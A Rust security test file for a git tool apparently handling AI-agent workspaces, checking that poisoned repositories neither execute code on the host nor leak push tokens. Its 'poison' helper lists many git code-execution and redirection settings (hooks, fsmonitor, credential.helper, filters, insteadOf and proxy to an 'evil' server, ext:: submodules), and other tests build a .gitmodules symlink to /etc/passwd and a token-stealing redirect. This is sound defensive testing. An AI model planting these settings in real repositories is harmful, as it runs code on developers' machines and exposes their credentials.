//! Repositories made by somebody who wants the host to run a program or to hand over its token.

use secrecy::SecretString;
use timmy_git::Credential;
use timmy_git::Expect;
use timmy_git::GitError;
use timmy_git::PushRef;
use timmy_git::RefName;
use timmy_git::Remote;
use timmy_testkit::GitServer;

use crate::sample::plain;
use crate::workshop::INSIDE;
use crate::workshop::Workshop;

/// Whatever git can be told to run. The program leaves a mark when it runs outside.
fn poison(program: &str, evil: &str) -> String {
    format!(
        r#"
set -e
mkdir -p hooks
for hook in pre-commit post-commit pre-push post-checkout reference-transaction post-index-change \
    pre-receive update post-update post-merge prepare-commit-msg commit-msg push-to-checkout; do
  cp {program} .git/$hook.tmp; mkdir -p .git/hooks; mv .git/$hook.tmp .git/hooks/$hook
done
cp -r .git/hooks/. hooks/
git config core.fsmonitor "{program}"
git config core.sshCommand "{program}"
git config core.pager "{program}"
git config core.editor "{program}"
git config credential.helper "!{program}"
git config filter.evil.clean "{program}; cat"
git config filter.evil.smudge "{program}; cat"
git config diff.evil.textconv "{program}"
git config diff.external "{program}"
git config gpg.program "{program}"
git config uploadpack.packObjectsHook "{program}"
git config remote.origin.url "{evil}/r.git"
git config remote.origin.receivepack "{program}"
git config remote.origin.uploadpack "{program}"
git config url."{evil}/".insteadOf "http://127.0.0.1"
git config http.proxy "{evil}"
git config alias.status "!{program}"
printf '* filter=evil diff=evil\n' > .gitattributes
printf '[submodule "x"]\n\tpath = x\n\turl = ext::{program}\n' > .gitmodules
mkdir -p vendor/x && git -C vendor/x init -q
git -C vendor/x -c user.name=x -c user.email=x commit -q --allow-empty -m nested
git -C vendor/x config core.fsmonitor "{program}"
echo work > work.txt
"#
    )
}

#[tokio::test]
async fn a_poisoned_workspace_runs_nothing_on_the_host_and_learns_no_token() {
    let workshop = Workshop::new(&[("a.txt", "a\n")]).await;
    let token = "0f1e2d3c4b5a69788796";
    let (evil, forge) = (
        GitServer::open().await.unwrap(),
        GitServer::open().await.unwrap(),
    );
    let url = forge.create("r.git").await.unwrap();
    let marker = workshop.sample.path("marker");
    let program = workshop.workspace.join("program");
    workshop
        .shell(&format!(
            "printf '#!/bin/sh\\n[ -n \"${INSIDE}\" ] || echo ran >> {}\\nexit 0\\n' > program; \
             chmod +x program",
            marker.display()
        ))
        .await;
    workshop
        .shell(&poison(&program.to_string_lossy(), &evil.url()))
        .await;
    let commit = workshop.collect().await.unwrap().unwrap();
    let bare = &workshop.sample.bare;
    bare.patch(&workshop.base, &commit, 1 << 20).await.unwrap();
    bare.materialise(&commit, &workshop.sample.path("checkout"))
        .await
        .unwrap();
    let remote = Remote {
        url: url.parse().unwrap(),
        credential: Some(Credential {
            user: "bot".to_owned(),
            token: SecretString::from(token),
        }),
    };
    let branch: RefName = "refs/heads/timmy/7-1".parse().unwrap();
    let push = PushRef {
        source: Some(commit.clone()),
        target: branch,
        expect: Expect::Absent,
    };
    let pushed = bare.push(&remote, &[push]).await.unwrap();
    assert!(pushed[0].status.done(), "{pushed:?}");
    assert!(!marker.exists(), "the host ran the agent's program");
    assert_eq!(Vec::<timmy_testkit::Seen>::new(), evil.seen());
    assert!(forge.seen().iter().all(|seen| seen.authorization.is_some()));
    // The trap is real: an ordinary git in the workspace falls into it.
    plain(
        &workshop.workspace,
        &["-c", "safe.directory=*", "add", "work.txt"],
    );
    assert!(
        marker.exists(),
        "the poison does not work, so this test proves nothing"
    );
    let changes = bare.changes(&workshop.base, &commit).await.unwrap();
    let nested = changes.iter().find(|change| change.path == "vendor/x");
    assert_eq!(Some(0o160_000), nested.map(|change| change.new_mode));
}

#[tokio::test]
async fn a_symbolic_link_called_gitmodules_is_refused() {
    let workshop = Workshop::new(&[("a.txt", "a\n")]).await;
    let script = "blob=$(printf /etc/passwd | git hash-object -w --stdin); \
        git update-index --add --cacheinfo 100644,$blob,harmless; \
        tree=$(printf '120000 blob %s\\t.gitmodules\\n' $blob | git mktree); \
        commit=$(git commit-tree $tree -p HEAD -m evil); \
        git update-ref refs/heads/evil $commit; \
        git bundle create -q evil.bundle evil ^HEAD";
    workshop.shell(script).await;
    let bundle = workshop.sample.path("evil.bundle");
    std::fs::copy(workshop.workspace.join("evil.bundle"), &bundle).unwrap();
    let source: RefName = "refs/heads/evil".parse().unwrap();
    let taken = workshop
        .sample
        .bare
        .fetch_bundle(&bundle, &source, &source)
        .await;
    let Err(GitError::UnsafeObjects { detail }) = taken else {
        panic!("accepted: {taken:?}");
    };
    assert!(detail.contains("gitmodulesSymlink"), "{detail}");
    assert_eq!(
        "",
        plain(
            workshop.sample.bare.path(),
            &["for-each-ref", "refs/heads/evil"]
        )
    );
}

#[tokio::test]
async fn a_dot_git_in_another_case_is_refused_by_the_checks() {
    let workshop = Workshop::new(&[("a.txt", "a\n")]).await;
    let script = "blob=$(echo x | git hash-object -w --stdin); \
        inner=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree); \
        tree=$(printf '040000 tree %s\\t.GIT\\n' $inner | git mktree); \
        commit=$(git commit-tree $tree -p HEAD -m evil); \
        git update-ref refs/heads/evil $commit; \
        git bundle create -q evil.bundle evil ^HEAD";
    workshop.shell(script).await;
    let bundle = workshop.sample.path("evil.bundle");
    std::fs::copy(workshop.workspace.join("evil.bundle"), &bundle).unwrap();
    let source: RefName = "refs/heads/evil".parse().unwrap();
    let taken = workshop
        .sample
        .bare
        .fetch_bundle(&bundle, &source, &source)
        .await;
    assert!(
        matches!(taken, Err(GitError::UnsafeObjects { .. })),
        "{taken:?}"
    );
}

#[tokio::test]
async fn a_redirect_does_not_carry_the_token_away() {
    let evil = GitServer::open().await.unwrap();
    let evil_url = evil.create("r.git").await.unwrap();
    let forge = timmy_loopback::Server::start(Redirecting(evil_url))
        .await
        .unwrap();
    let workshop = Workshop::new(&[("a.txt", "a\n")]).await;
    let remote = Remote {
        url: format!("{}/r.git", forge.url()).parse().unwrap(),
        credential: Some(Credential {
            user: "bot".to_owned(),
            token: SecretString::from("0f1e2d3c4b5a69788796"),
        }),
    };
    let listed = workshop.sample.bare.list_remote(&remote, &[]).await;
    assert!(
        matches!(listed, Err(GitError::Network { .. })),
        "{listed:?}"
    );
    assert_eq!(Vec::<timmy_testkit::Seen>::new(), evil.seen());
}

/// Sends every request elsewhere.
struct Redirecting(String);

impl timmy_loopback::Handler for Redirecting {
    async fn handle(&self, request: timmy_loopback::Request) -> timmy_loopback::Reply {
        let query = request.uri().query().unwrap_or_default();
        let response = http::Response::builder()
            .status(302)
            .header("location", format!("{}/info/refs?{query}", self.0))
            .body(bytes::Bytes::new());
        timmy_loopback::Reply::Whole(response.unwrap())
    }
}
